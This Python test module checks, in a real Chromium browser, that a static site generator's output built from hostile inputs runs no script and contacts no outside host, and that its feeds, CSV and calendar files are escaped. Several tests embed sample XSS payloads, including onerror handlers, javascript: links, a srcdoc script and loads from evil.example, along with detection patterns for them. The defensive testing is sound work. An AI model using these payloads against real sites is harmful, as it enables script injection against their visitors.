"""No stranger's text does anything but be read: real Chromium over a site made of hostile texts."""

from __future__ import annotations

import csv
import io
import json
import re
import socketserver
import threading
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
import web_tools
from playwright.sync_api import Browser, Route
from sites import DAY, words

from ogpsite import build
from security.hostile_site import write_hostile
from security.sound import ELEMENTS
from security.vectors import VECTORS

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("hostile")]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[build.Result, Path]:
    """The hostile site, built."""
    folder = tmp_path_factory.mktemp("hostile")
    root = write_hostile(folder / "site")
    result = build.build(build.Job(root, DAY), folder / "output")
    assert result.ok, "\n".join(words(tuple(one for one in result.problems if one.fatal))[:40])
    return result, folder / "output"


class Cached(web_tools.Quiet):
    """The site as a host serves it: what never changes is asked for once. And an empty page, to show others in."""

    protocol_version = "HTTP/1.1"

    def end_headers(self) -> None:
        if "/assets/" in self.path:
            self.send_header("Cache-Control", "max-age=3600")
        super().end_headers()

    def do_GET(self) -> None:  # noqa: N802 - its name in http.server
        if self.path != SHELL:
            super().do_GET()
            return
        page = b"<!doctype html><title>Frames</title><body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)


SHELL = "/_frames"


@pytest.fixture(scope="module")
def address(hostile: tuple[build.Result, Path]) -> Iterator[str]:
    with web_tools.served(web_tools.folder(hostile[1], Cached)) as found:
        yield f"{found}/"


OWN = "CONNECT content-autofill.googleapis.com:443 "  # asked by Chromium itself, whatever form a page holds


class Outside(socketserver.BaseRequestHandler):
    """Everything that is not this machine, for the browser: whoever connects is noted, and told nothing."""

    asked: ClassVar[list[str]] = []

    def handle(self) -> None:
        line = self.request.recv(300).decode("latin-1").partition("\r")[0]
        if OWN not in line:
            self.asked.append(line)


@pytest.fixture
def outside() -> Iterator[str]:
    """A proxy for all other hosts; gives its address."""
    Outside.asked.clear()
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Outside) as server:
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


def test_there_are_enough_vectors() -> None:
    assert len(VECTORS) >= 300


# ruff: noqa: E501 - the browser's own words
# What a page is asked in the browser: everything that could run, whatever put it there.
LOOK = """elements => {
  const schemes = /^(https?|mailto|tel|webcal):/i, leads = /^(href|src|action|cite|data|poster|formaction|xlink:href)$/;
  const never = /^(style|srcdoc|formaction|ping|background|xlink:href)$/, loads = /^(img|script|source|video|audio|iframe)$/;
  return page => {
    const found = [], html = page.contentType === 'text/html';
    for (const one of page.querySelectorAll('*')) {
      const tag = one.localName.toLowerCase();
      if (html && !elements.has(tag)) found.push(`<${tag}>`);
      if (tag === 'script' && (!html || (!one.getAttribute('src') && !/json/.test(one.type)))) found.push('an inline script');
      for (const {name, value} of one.attributes) {
        const told = () => found.push(`<${tag} ${name}=${value}>`), clean = value.replace(/^[\\0-\\x20]+|[\\t\\n\\r]/g, '');
        if (/^on/i.test(name) || never.test(name) || (html && !/^[a-z][a-zA-Z0-9:-]*$/.test(name))) told();
        if (leads.test(name) && /^[a-z][a-z0-9+.-]*:/i.test(clean) && !schemes.test(clean)) told();
        if (html && loads.test(tag) && /^(src|srcset)$/.test(name) && /^(https?:)?[/\\\\]{2}/i.test(clean)) told();
      }
    }
    for (const name of ['search', 'main', 'location', 'cookie', 'forms'])
      if (page[name] && page[name].nodeType === 1) found.push(`document.${name} is shadowed`);
    if (html && !page.querySelector('main') && !page.querySelector('meta[http-equiv=refresh]')) found.push('no page of ours: ' + page.URL);
    return found;
  };
}"""
# Each page in a frame of its own, many at once: it is loaded, laid out and run as it would be alone.
FRAMES = """async ([paths, elements]) => {
  const seen = (LOOK)(new Set(elements)), found = [];
  await Promise.all(paths.map(path => new Promise(done => {
    const frame = document.createElement('iframe');
    frame.onload = () => {
      try { const wrong = seen(frame.contentDocument); if (wrong.length) found.push([path, wrong.slice(0, 5)]); }
      catch (error) { found.push([path, String(error)]); }
      done();
    };
    frame.src = '/' + path.split('/').map(encodeURIComponent).join('/');
    document.body.append(frame);
  })));
  return found;
}""".replace("LOOK", LOOK)
AT_ONCE = 25


def shown(result: build.Result) -> list[str]:
    """Every page, and every other output that browsers show as a document of its own and could run."""
    return sorted(one.path for one in result.outputs if one.path.endswith((".html", ".svg", ".xml")))


def test_nothing_runs_in_a_real_browser(
    hostile: tuple[build.Result, Path], address: str, outside: str, browser: Browser
) -> None:
    """Without our content policy: the escaping alone must hold. Every page of every language, feeds and drawings too."""
    chosen = shown(hostile[0])
    context = browser.new_context(bypass_csp=True, proxy={"server": outside, "bypass": "127.0.0.1"})
    ran: list[str] = []
    asked: list[str] = []
    context.expose_binding("xss", lambda source, *_: ran.append(source["frame"].url))
    context.on("request", lambda request: None if request.url.startswith(address) else asked.append(request.url))
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    for start in range(0, len(chosen), AT_ONCE):
        page.goto(f"{address}{SHELL[1:]}")
        broken = page.evaluate(FRAMES, [chosen[start : start + AT_ONCE], sorted(ELEMENTS)])
        assert not broken, broken[:5]
    page.wait_for_timeout(500)
    context.close()
    assert len([path for path in chosen if path.endswith(".html")]) > 4_000
    assert (ran, asked, Outside.asked) == ([], [], [])


def test_this_browser_would_tell(address: str, outside: str, browser: Browser) -> None:
    """The other way round: what runs, asks others or breaks out in such a frame is seen."""
    context = browser.new_context(bypass_csp=True, proxy={"server": outside, "bypass": "127.0.0.1"})
    ran: list[str] = []
    context.expose_binding("xss", lambda source, *_: ran.append(source["frame"].url))
    hostile = (
        "<main><img src=x onerror=xss()><a href='java\nscript:xss()'>x</a><img src=http://evil.example/x.png></main>"
    )
    context.route("**/hostile.html", lambda route: route.fulfill(content_type="text/html", body=hostile))
    page = context.new_page()
    page.goto(f"{address}{SHELL[1:]}")
    broken = page.evaluate(FRAMES, [["hostile.html"], sorted(ELEMENTS)])
    page.wait_for_timeout(300)
    context.close()
    assert len(broken[0][1]) == 3 and len(ran) == 1
    assert [line for line in Outside.asked if "evil.example" in line]


def test_our_policy_alone_would_hold_too(hostile: tuple[build.Result, Path], address: str, browser: Browser) -> None:
    """The second wall: were a script to get into a page, the content policy would not let it run."""
    context = browser.new_context()
    page = context.new_page()
    ran: list[str] = []
    asked: list[str] = []
    page.expose_function("xss", lambda *_: ran.append(page.url))

    def request(route: Route) -> None:
        if route.request.url.startswith(address):
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    context.route("**/*", request)
    page.goto(address, wait_until="domcontentloaded")
    page.evaluate(
        """() => {
          for (const text of ['xss()', 'import("https://evil.example/x.js")']) {
            const script = document.createElement('script'); script.textContent = text; document.body.append(script);
          }
          const div = document.createElement('div');
          div.innerHTML = '<img src=x onerror=xss()><a href="javascript:xss()">x</a>' +
            '<iframe srcdoc="<script>parent.xss()</script>"></iframe><img src=https://evil.example/x.png>';
          document.body.append(div);
          div.querySelector('a').click();
        }"""
    )
    page.wait_for_timeout(500)
    context.close()
    assert (ran, asked) == ([], [])


def test_every_other_form_is_escaped_in_its_own_way(hostile: tuple[build.Result, Path]) -> None:
    """JSON is JSON, XML is XML, no cell is a formula, no line of a calendar is a stranger's."""
    result, _target = hostile
    seen = set()
    for output in result.outputs:
        ending = output.path.rpartition(".")[2]
        if output.copy_of or ending not in ("json", "jsonld", "xml", "csv", "ics", "svg", "webmanifest"):
            continue
        seen.add(ending)
        text = output.data.decode("utf-8-sig")
        if ending in ("json", "jsonld", "webmanifest"):
            json.loads(text)
        elif ending in ("xml", "svg"):
            assert "<!ENTITY" not in text.replace("&lt;!ENTITY", "")
            root = ElementTree.fromstring(text)
            assert not [one.tag for one in root.iter() if "script" in str(one.tag).lower()], output.path
        elif ending == "csv":
            delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
            cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
            formulas = [
                cell for cell in cells if re.match(r"[=+\-@\t\r]", cell) and not re.fullmatch(r"-?\d[\d.,-]*", cell)
            ]
            assert not formulas, f"{output.path}: {formulas[:3]}"
        elif ending == "ics":
            assert not re.search(r"(?m)^(BEGIN:VALARM|ATTACH|X-Evil)", text), output.path
    assert seen >= {"json", "xml", "csv", "ics"}


def test_json_in_pages_can_not_end_its_script(hostile: tuple[build.Result, Path]) -> None:
    result, _ = hostile
    for output in result.outputs:
        if output.path.endswith(".html"):
            for inside in re.findall(rb'<script type="application/[a-z+]*json"[^>]*>(.*?)</script', output.data, re.S):
                json.loads(inside)
                assert b"<" not in inside and b"-->" not in inside, output.path
